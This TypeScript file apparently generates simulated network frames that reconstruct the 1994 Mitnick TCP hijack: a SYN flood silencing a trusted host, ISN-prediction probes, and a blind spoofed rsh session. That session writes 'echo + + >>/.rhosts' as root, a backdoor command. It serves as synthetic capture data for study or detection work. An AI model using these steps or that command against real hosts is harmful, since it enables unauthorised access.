import { ACK, FIN, PSH, RST, SYN } from '../../../src/core/model/flags';
import { seqAdd, u32 } from '../../../src/core/bytes/seq';
import type { Frame } from './packets';
import { seededRandom } from './random';
import { type Station, Story } from './station';

const LOGIN = 513;
const SHELL = 514;

/** How far apart the target's initial sequence numbers are: a constant, which is its undoing (RFC 6528 §1). */
const ISN_STEP = 128_000;
const PROBES = 20;
const FLOOD_SYNS = 30;
/** Half-open connections that the trusted host holds before it falls silent. */
const BACKLOG = 8;

/**
 * The attack on a trust between two hosts that Kevin Mitnick made famous in 1994, seen on their network: the trusted host
 * is silenced by a SYN flood, the target's next ISN is learnt from twenty probes, and then a connection is opened and used
 * in the trusted host's name without seeing one answer. The forged segments come through the gateway, and it shows.
 */
export function hijackMitnick(): Frame[] {
  const target: Station = { address: '10.3.0.20', mac: '02:00:0a:03:00:14', ttl: 64, ipId: 0x5c10 };
  const trusted: Station = { address: '10.3.0.10', mac: '02:00:0a:03:00:0a', ttl: 64, ipId: 0x1f44 };
  const gatewayMac = '02:00:0a:03:00:01';
  const attacker: Station = { address: '198.51.100.66', mac: gatewayMac, ttl: 52, ipId: 0xe2a0 };
  /** Nobody has this address: SYN-ACKs to it are never answered. */
  const nobody: Station = { address: '203.0.113.97', mac: gatewayMac, ttl: 52, ipId: 0 };

  const story = new Story(Date.UTC(1994, 11, 25, 14, 18, 22) * 1000);
  const random = seededRandom(1994);
  const around = (ms: number): number => ms * (0.9 + 0.2 * random());

  // Silence the trusted host.
  const floodSeq = 1_382_726_960;
  for (let i = 0; i < FLOOD_SYNS; i++) {
    const sourcePort = 600 + i;
    story.wait(around(60));
    const seq = floodSeq + i;
    story.send(attacker, trusted, { sourcePort, destinationPort: LOGIN, seq, flags: SYN }, nobody);
    if (i >= BACKLOG) continue;
    story.wait(around(0.4));
    const isn = 3_305_472_000 + i * 64_000;
    const flags = SYN | ACK;
    story.send(trusted, nobody, { sourcePort: LOGIN, destinationPort: sourcePort, seq: isn, ack: seq + 1, flags });
  }

  // Learn how the target chooses its initial sequence numbers.
  let targetIsn = 2_021_824_000;
  for (let i = 0; i < PROBES; i++) {
    const probe = { sourcePort: 1000 - i, destinationPort: SHELL };
    const answer = { sourcePort: SHELL, destinationPort: probe.sourcePort };
    const seq = 1_382_726_990 + i;
    story.wait(around(500));
    story.send(attacker, target, { ...probe, seq, flags: SYN });
    story.wait(around(0.5));
    story.send(target, attacker, { ...answer, seq: targetIsn, ack: seq + 1, flags: SYN | ACK });
    story.wait(around(180));
    story.send(attacker, target, { ...probe, seq: seq + 1, flags: RST, window: 0 });
    targetIsn = u32(seqAdd(targetIsn, ISN_STEP));
  }

  // Speak in the trusted host's name. The answers go to the trusted host, which is too busy to protest.
  const forged = { sourcePort: SHELL, destinationPort: SHELL };
  let seq = 1_382_727_010;
  let rcvNxt = targetIsn + 1;
  const lie = (flags: number, ack: number, text = ''): void => {
    story.send(attacker, target, { ...forged, seq, ack, flags, text }, trusted);
    seq += text.length + (flags & (SYN | FIN) ? 1 : 0);
  };
  const answer = (flags: number, text = ''): void => {
    story.wait(around(0.6));
    const sent = flags & SYN ? rcvNxt - 1 : rcvNxt;
    story.send(target, trusted, { ...forged, seq: sent, ack: seq, flags, text });
    rcvNxt += text.length + (flags & FIN ? 1 : 0);
  };

  story.wait(around(600));
  lie(SYN, 0);
  answer(SYN | ACK);
  story.wait(around(240)); // the SYN-ACK must have left before an ACK of it can be believed
  lie(ACK, rcvNxt);
  story.wait(around(200));
  lie(ACK | PSH, rcvNxt, '0\0');
  answer(ACK);
  story.wait(around(120));
  lie(ACK | PSH, rcvNxt, 'root\0root\0echo + + >>/.rhosts\0');
  answer(ACK);
  answer(ACK | PSH, '\0'); // rshd's word that it has begun
  answer(FIN | ACK);
  story.wait(around(900));
  lie(ACK, rcvNxt - 1);
  story.wait(around(15));
  lie(ACK, rcvNxt);
  story.wait(around(40));
  lie(FIN | ACK, rcvNxt);
  answer(ACK);

  // Free the trusted host again, so that nobody wonders.
  for (let i = 0; i < FLOOD_SYNS; i++) {
    story.wait(around(60));
    const said = { sourcePort: 600 + i, destinationPort: LOGIN, seq: floodSeq + i + 1, flags: RST, window: 0 };
    story.send(attacker, trusted, said, nobody);
  }
  return story.frames;
}
